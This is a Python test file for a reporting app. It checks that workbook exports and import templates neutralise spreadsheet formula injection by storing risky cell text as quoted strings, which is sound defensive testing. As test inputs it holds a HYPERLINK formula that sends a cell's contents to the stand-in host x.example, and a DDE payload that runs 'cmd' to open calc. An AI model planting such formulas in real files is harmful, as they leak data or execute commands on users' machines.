"""Formula injection (ISSUE-14 finding 1): every workbook chiso writes keeps a text that starts with
``= + - @`` as text — never a live formula — and numbers stay numbers."""

from __future__ import annotations

import dataclasses
import io

import openpyxl
import pytest

from chiso.cli.main import main
from chiso.core.framework import Framework, builtin
from chiso.core.xlsxsafe import defuse, is_risky
from chiso.web.indexdata.actions import store_framework
from chiso.web.people.models import Agency, Duty

HOSTILE = '=HYPERLINK("http://x.example/?"&D2,"Chi tiết")'


def _cells(data: bytes) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def _assert_text(cells, value: str) -> None:
    hits = [c for c in cells if c.value == value]
    assert hits, f"{value!r} not in the workbook"
    for c in hits:
        assert c.data_type == "s", (c.coordinate, c.data_type)
        assert c.quotePrefix, c.coordinate
    assert not [c for c in cells if c.data_type == "f"], "a formula cell was written"


def test_defuse_keeps_numbers_and_plain_text():
    book = openpyxl.Workbook()
    book.active.append([HOSTILE, "+84 912", "-5", "@SUM(A1)", "\tx", 12, 3.5, "Sơn La", None])
    book.create_sheet("two").append(["=1+1"])
    buf = io.BytesIO()
    defuse(book).save(buf)
    cells = _cells(buf.getvalue())
    by_value = {c.value: c for c in cells}
    for text in (HOSTILE, "+84 912", "-5", "@SUM(A1)", "\tx", "=1+1"):
        assert by_value[text].data_type == "s" and by_value[text].quotePrefix, text
    assert by_value[12].data_type == "n" and by_value[3.5].data_type == "n"
    assert by_value["Sơn La"].data_type == "s" and not by_value["Sơn La"].quotePrefix
    assert is_risky("=x") and is_risky("\rx") and not is_risky("x=") and not is_risky(5)


@pytest.mark.django_db
def test_indicators_export_agency_named_like_a_formula(coordinator):
    assignment = Duty.objects.filter(province__code="14", role="lead").select_related("agency").first()
    Agency.objects.filter(pk=assignment.agency_id).update(name=HOSTILE, short_name=HOSTILE)
    r = coordinator.get("/p/14/indicators.xlsx")
    assert r.status_code == 200
    cells = _cells(r.content)
    _assert_text(cells, HOSTILE)
    assert any(c.data_type == "n" and isinstance(c.value, float) for c in cells)  # scores stay numbers


def _hostile_framework(name: str) -> Framework:
    base = builtin("pii-2025")
    first = base.indicators[0]
    nodes = [dataclasses.replace(n, name="=cmd|' /C calc'!A0") if n.code == first else n for n in base.nodes]
    return Framework(name, nodes)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["national", "annex_son_la", "annex_cao_bang"])
def test_import_templates_node_named_like_a_formula(coordinator, kind):
    from django.contrib.auth.models import User

    store_framework(User.objects.get(username="sokhcn"), _hostile_framework("pii-hostile"), reason="test")
    r = coordinator.get(f"/imports/template/{kind}/pii-hostile.xlsx")
    assert r.status_code == 200
    cells = _cells(r.content)
    if kind == "national":  # the national layout lists codes, not names: no formula anywhere
        assert not [c for c in cells if c.data_type == "f"]
    else:
        _assert_text(cells, "=cmd|' /C calc'!A0")


def test_frameworks_export_cli(tmp_path, monkeypatch):
    source = tmp_path / "hostile.csv"
    _hostile_framework("hostile").write(source)
    out = tmp_path / "fw.xlsx"
    assert main(["frameworks", "export", str(source), "--out", str(out)]) == 0
    cells = _cells(out.read_bytes())
    _assert_text(cells, "=cmd|' /C calc'!A0")
